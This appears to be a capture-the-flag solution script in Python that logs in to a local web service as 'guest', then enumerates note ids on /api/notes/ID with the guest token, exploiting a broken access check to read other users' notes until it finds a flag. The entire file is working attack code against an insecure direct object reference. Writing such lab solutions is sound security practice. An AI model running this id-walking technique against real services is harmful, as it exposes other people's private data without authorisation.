"""Sign in as guest, then walk note ids: /api/notes/ID serves any user's note."""

import json
import re
import urllib.error
import urllib.request

BASE = "http://127.0.0.1:8082"
request = urllib.request.Request(
    f"{BASE}/api/session",
    data=json.dumps({"user": "guest", "password": "guest"}).encode(),
    headers={"Content-Type": "application/json"},
)
with urllib.request.urlopen(request, timeout=10) as response:
    token = json.load(response)["token"]
for note_id in range(1, 50):
    request = urllib.request.Request(
        f"{BASE}/api/notes/{note_id}", headers={"Authorization": f"Bearer {token}"}
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            text = json.load(response)["text"]
    except urllib.error.HTTPError:
        continue
    found = re.search(r"flag\{[0-9a-f]{32}\}", text)
    if found:
        print(found.group(0))
        break
